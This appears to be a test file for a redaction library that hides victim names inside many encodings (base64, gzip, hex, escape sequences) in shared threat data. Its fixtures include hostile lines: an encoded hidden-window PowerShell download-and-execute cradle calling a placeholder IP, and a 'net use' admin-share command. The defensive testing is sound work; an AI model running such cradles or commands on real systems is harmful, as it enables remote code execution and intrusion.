// Decode before judging: every encoding a reader could undo is undone before the detectors
// run; a hit in a block encoding redacts the whole block, an undecodable blob is removed.
import { gzipSync, deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createTextRedactor } from '../../../../src/sharing/redaction/index.js';
import { MOE, PARSIA, labelFor } from './fixtures.js';

const redactor = createTextRedactor({ entities: [MOE, PARSIA] });
const redacted = (text: string): string => redactor.redact(text, labelFor).text;
const b64 = (s: string | Buffer, enc: BufferEncoding = 'utf8'): string =>
  (typeof s === 'string' ? Buffer.from(s, enc) : s).toString('base64');
const VICTIM = 'net use \\\\fs01.moe.gov.example\\c$ /user:MOE\\ali.rezaei';

describe('block encodings: the whole span is redacted', () => {
  it.each([
    ['PowerShell -enc (UTF-16LE)', `powershell -enc ${b64(VICTIM, 'utf16le')}`],
    ['PowerShell -EncodedCommand', `pwsh -NoP -EncodedCommand ${b64(VICTIM, 'utf16le')}`],
    ['FromBase64String', `[Convert]::FromBase64String('${b64(VICTIM)}')`],
    ['data: URI', `data:text/plain;base64,${b64(VICTIM)}`],
    ['URL-safe base64', `token=${b64('وزارت نیرو هک شد').replace(/\+/g, '-').replace(/\//g, '_')}`],
    ['UTF-16BE base64', `blob ${b64(Buffer.from(VICTIM, 'utf16le').swap16())}`],
    ['nested base64', `x ${b64(b64(b64(VICTIM)))}`],
    ['gzip inside base64', `gz ${b64(gzipSync(VICTIM))}`],
    ['zlib inside base64', `z ${b64(deflateSync(VICTIM))}`],
    ['raw deflate inside base64', `d ${b64(deflateRawSync(VICTIM))}`],
    // Level 0 writes stored blocks (type 0), which are checked by their header before zlib runs.
    ['raw deflate, stored blocks, inside base64', `d ${b64(deflateRawSync(VICTIM, { level: 0 }))}`],
    ['zlib, stored blocks, inside base64', `z ${b64(deflateSync(VICTIM, { level: 0 }))}`],
    ['hex', `hex ${Buffer.from(VICTIM).toString('hex')}`],
    [
      'spaced hex',
      `bytes ${Buffer.from('moe.gov.example')
        .toString('hex')
        .replace(/(..)(?!$)/g, '$1 ')}`,
    ],
    ['0x list', `{${[...Buffer.from('Ali Rezaei')].map((b) => `0x${b.toString(16)}`).join(',')}}`],
    ['decimal char codes', `[${[...'Ministry of Energy'].map((c) => c.charCodeAt(0)).join(', ')}]`],
    ['RFC 2047 B', `Subject: =?utf-8?B?${b64('وزارت نیرو')}?=`],
  ])('redacts a victim inside %s', (_what, text) => {
    const out = redacted(text);
    expect(out).toContain('[REDACTED:encoded]');
    expect(redactor.scan(out)).toEqual([]);
  });

  it('keeps what surrounds the encoded span byte for byte', () => {
    expect(redacted(`powershell -enc ${b64(VICTIM, 'utf16le')} -w hidden`)).toBe(
      'powershell -enc [REDACTED:encoded] -w hidden',
    );
  });

  it('keeps encoded attacker content as it is', () => {
    const text = `powershell -enc ${b64('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.50/a")', 'utf16le')}`;
    expect(redacted(text)).toBe(text);
  });
});

describe('in-place encodings: the escapes of the hit are redacted', () => {
  it.each([
    ['\\x escapes (UTF-8 bytes)', '\\x4d\\x4f\\x45 was hit'],
    [
      'Persian in \\x escapes',
      `${[...Buffer.from('وزارت نیرو')].map((b) => `\\x${b.toString(16)}`).join('')} was hit`,
    ],
    ['\\u{…} escapes', '\\u{4d}\\u{4f}\\u{45} was hit'],
    ['%u escapes', '%u004d%u004f%u0045 was hit'],
    ['triple percent encoding', '%25254d%25254f%252545 was hit'],
    ['&amp;-escaped character references', '&amp;#77;&amp;#79;&amp;#69; was hit'],
    ['quoted-printable', '=4D=4F=45 was hit'],
    ['quoted-printable soft break', 'Ministry of En=\nergy was hit'],
    ['PowerShell [char] codes', '[char]77+[char]79+[char]69 was hit'],
    ['VBScript chr()', 'chr(77) & chr(79) & chr(69) was hit'],
    ['String.fromCharCode', 'String.fromCharCode(77,79,69) was hit'],
    ['string concatenation', "'Minis'+'try of En'+'ergy' was hit"],
    ['markup inside a word', '<b>Minis</b>try of <i>En</i>ergy was hit'],
    ['a comment inside a word', 'MO<!-- x -->E was hit'],
  ])('redacts a victim written with %s', (_what, text) => {
    const out = redacted(text);
    expect(out).not.toBe(text);
    expect(out.endsWith(' was hit')).toBe(true);
    expect(redactor.scan(out)).toEqual([]);
  });
});

describe('fail closed on what does not decode', () => {
  it('removes a long random blob', () => {
    const blob = b64(Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 97 + 13) % 256)));
    expect(redacted(`payload ${blob} end`)).toBe('payload [REDACTED:opaque] end');
  });

  it('keeps digests, ids, paths and identifiers', () => {
    const text =
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 ' +
      'indicator--5a0e8c1f-2b3d-4e5f-8a9b-0c1d2e3f4a5b /wp-includes/js/jquery/ui/core.min.js ' +
      'SomeVeryLongFunctionNameHere C:\\Users\\Public\\AppData\\Roaming\\x64';
    expect(redacted(text)).toBe(text);
  });

  it('does not report a fuzzy hash or a blob as opaque when it is a digest', () => {
    const blob = b64(Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 97 + 13) % 256)));
    expect(redactor.scan(blob, { allowOpaque: true })).toEqual([]);
    expect(redactor.scan('96:AXGBicFlgVNhBGcL6wCrFQEvAXGHsNhxLsr2C:AXGHsNhxLsr2C')).toEqual([]);
  });
});
